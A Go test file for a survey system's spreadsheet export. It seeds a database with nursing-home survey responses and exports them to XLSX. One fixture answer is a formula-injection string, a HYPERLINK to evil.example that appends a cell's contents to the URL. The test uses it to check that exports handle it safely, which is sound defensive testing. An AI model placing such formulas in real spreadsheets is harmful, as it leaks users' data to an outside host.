package exports_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"testing"
	"time"

	"github.com/nicksnyder/go-i18n/v2/i18n"
	"github.com/xuri/excelize/v2"
	"go.mongodb.org/mongo-driver/v2/bson"
	"go.mongodb.org/mongo-driver/v2/mongo"

	"github.com/stemme/stemme/analysis"
	"github.com/stemme/stemme/exports"
	"github.com/stemme/stemme/locales"
	"github.com/stemme/stemme/store/storetest"
	"github.com/stemme/stemme/surveys"
)

// Texts a relative wrote that the tests look for: an attempt at formula
// injection and Arabic, both approved in review.
const (
	injection = `=HYPERLINK("http://evil.example/?"&A1,"Klikk")`
	arabic    = "الموظفون لطيفون جداً، شكراً لكم"
	pending   = "Ikke gjennomgått ennå"
	hiddenTxt = "Fra en skjult enhet"
)

var testNow = time.Date(2026, 11, 18, 12, 0, 0, 0, time.UTC)

func tx(nb, ar string) surveys.Text { return surveys.Text{"nb": nb, "en": nb + " (en)", "ar": ar} }

func testInstrument() *surveys.Instrument {
	scale := surveys.ChoiceList{Name: "s"}
	for _, v := range []string{"1", "2", "3", "4", "5", "6"} {
		scale.Choices = append(scale.Choices, surveys.Choice{Value: v, Label: tx(v, v)})
	}
	scale.Choices = append(scale.Choices, surveys.Choice{Value: surveys.DontKnow, Label: tx("Vet ikke", "لا أعرف")})
	return &surveys.Instrument{Key: "t", Version: 1, Status: surveys.InstrumentPublished, Title: tx("Test", "اختبار"),
		Languages:  []surveys.LanguageStatus{{Code: "nb", Status: "draft"}, {Code: "ar", Status: "draft"}},
		FocusAreas: []surveys.FocusArea{{Key: "info", Name: tx("Informasjon", "المعلومات")}},
		Lists: []surveys.ChoiceList{scale, {Name: "rel", Choices: []surveys.Choice{
			{Value: "child", Label: tx("Barn", "ابن")}, {Value: "partner", Label: tx("Partner", "شريك")}}},
			{Name: "help", Choices: []surveys.Choice{{Value: "phone", Label: tx("Telefon", "هاتف")}, {Value: "visit", Label: tx("Besøk", "زيارة")}}}},
		Pages: []surveys.Page{{Key: "p", Title: tx("Side", "صفحة"), Questions: []surveys.Question{
			{Key: "relation", Type: surveys.TypeSingle, List: "rel", Segment: "relation", Text: tx("Hvem er du pårørende til?", "لمن أنت قريب؟")},
			{Key: "a", Type: surveys.TypeScale, List: "s", FocusArea: "info", Text: tx("Får du informasjon?", "هل تحصل على معلومات؟")},
			{Key: "help", Type: surveys.TypeMulti, List: "help", Text: tx("Hvilken hjelp?", "أي مساعدة؟")},
			{Key: "age", Type: surveys.TypeNumber, Text: tx("Alder", "العمر")},
			{Key: "note", Type: surveys.TypeLongText, Text: tx("Hva er viktig?", "ما المهم؟")},
		}}}}
}

// fixture is a wave with three units: u1 (6 answers), u2 (5) and u3 (2,
// hidden and left out of the total), and an earlier wave to compare with.
type fixture struct {
	db     *mongo.Database
	bundle *i18n.Bundle
	// answers are the stored answers per unit of the current wave.
	answers map[string][]surveys.Answers
	ids     []string
}

func newFixture(t testing.TB) *fixture {
	t.Helper()
	ctx := context.Background()
	db := storetest.DB(t)
	ss := surveys.NewStore(db)
	for _, u := range []string{"u1", "u2", "u3"} {
		if err := ss.InsertUnit(ctx, surveys.Unit{ID: u, Name: "Enhet " + u, Kind: surveys.KindNursingHome, Active: true}); err != nil {
			t.Fatal(err)
		}
	}
	in := testInstrument()
	if err := ss.InsertInstrument(ctx, in); err != nil {
		t.Fatal(err)
	}
	units := []string{"u1", "u2", "u3"}
	for _, w := range []*surveys.Wave{
		{ID: "w0", Kind: surveys.WaveOverall, Name: "Forrige", Instrument: in.ID, Units: units, Languages: []string{"nb"},
			Opens: "2022-10-01", Closes: "2022-11-01", Status: surveys.WaveClosed},
		{ID: "w1", Kind: surveys.WaveOverall, Name: "Høsten 2026", Instrument: in.ID, Units: units, Languages: []string{"nb", "ar"},
			Opens: "2026-10-01", Closes: "2026-11-30", Status: surveys.WaveClosed},
	} {
		if _, err := ss.InsertWave(ctx, w); err != nil {
			t.Fatal(err)
		}
	}
	f := &fixture{db: db, answers: map[string][]surveys.Answers{}}
	save := func(wave, unit string, a surveys.Answers) {
		id := fmt.Sprintf("resp-%s-%s-%d", wave, unit, len(f.ids))
		f.ids = append(f.ids, id)
		r := &surveys.Response{ID: id, Wave: wave, Unit: unit, Instrument: in.ID, Lang: "nb",
			Answers: a, Segments: in.SegmentsOf(a)}
		if err := ss.SaveResponse(ctx, r); err != nil {
			t.Fatal(err)
		}
		if wave == "w1" {
			f.answers[unit] = append(f.answers[unit], a)
		}
	}
	for i, v := range []string{"3", "3", "4", "4", "5", "dk"} {
		save("w0", "u1", surveys.Answers{"relation": surveys.ChoiceAnswer("child"), "a": surveys.ChoiceAnswer(v), "age": surveys.NumberAnswer(float64(40 + i))})
	}
	for i, v := range []string{"6", "6", "5", "4", "4", "dk"} {
		a := surveys.Answers{"a": surveys.ChoiceAnswer(v), "age": surveys.NumberAnswer(float64(50 + i)), "help": surveys.ChoicesAnswer("phone")}
		if i < 4 {
			a["relation"] = surveys.ChoiceAnswer("child")
		}
		switch i {
		case 0:
			a["note"] = surveys.TextAnswer(injection)
		case 1:
			a["note"] = surveys.TextAnswer(arabic)
		case 2:
			a["note"] = surveys.TextAnswer(pending)
		}
		save("w1", "u1", a)
	}
	for _, v := range []string{"3", "4", "5", "6", "2"} {
		save("w1", "u2", surveys.Answers{"relation": surveys.ChoiceAnswer("partner"), "a": surveys.ChoiceAnswer(v), "help": surveys.ChoicesAnswer("visit", "phone")})
	}
	for _, v := range []string{"5", "5"} {
		save("w1", "u3", surveys.Answers{"relation": surveys.ChoiceAnswer("child"), "a": surveys.ChoiceAnswer(v), "note": surveys.TextAnswer(hiddenTxt)})
	}
	tallier := analysis.NewTallier(db, slog.New(slog.NewTextHandler(io.Discard, nil)))
	stop := tallier.Start()
	defer stop()
	if err := tallier.Flush(ctx); err != nil {
		t.Fatal(err)
	}
	// An advisor approves every text but one.
	if _, err := db.Collection("texts").UpdateMany(ctx, bson.D{{Key: "text", Value: bson.D{{Key: "$ne", Value: pending}}}},
		bson.D{{Key: "$set", Value: bson.D{{Key: "status", Value: analysis.TextApproved}}}}); err != nil {
		t.Fatal(err)
	}
	bundle, _, err := locales.Load()
	if err != nil {
		t.Fatal(err)
	}
	f.bundle = bundle
	return f
}

// xlsx exports the current wave and re-opens the workbook.
func (f *fixture) xlsx(t *testing.T, opt exports.Options) (*excelize.File, []byte) {
	t.Helper()
	ctx := context.Background()
	opt.Now = testNow
	e, err := exports.Prepare(ctx, f.db, f.bundle, f.results(t), opt)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := e.WriteXLSX(ctx, &buf, nil); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("the workbook does not open: %v", err)
	}
	t.Cleanup(func() { _ = x.Close() })
	return x, buf.Bytes()
}

// results are the current wave's results as an advisor reads them.
func (f *fixture) results(t testing.TB) *analysis.Results {
	t.Helper()
	v, err := analysis.NewService(f.db).View(context.Background(), analysis.Reader{All: true}, "w1")
	if err != nil || v.Results == nil {
		t.Fatalf("results of w1: %v (state %v)", err, v)
	}
	return v.Results
}

func rows(t *testing.T, x *excelize.File, sheet string) [][]string {
	t.Helper()
	rs, err := x.GetRows(sheet)
	if err != nil {
		t.Fatalf("sheet %s: %v", sheet, err)
	}
	return rs
}

// cell returns column col (0-based) of a row, "" past its end.
func cell(row []string, col int) string {
	if col < len(row) {
		return row[col]
	}
	return ""
}
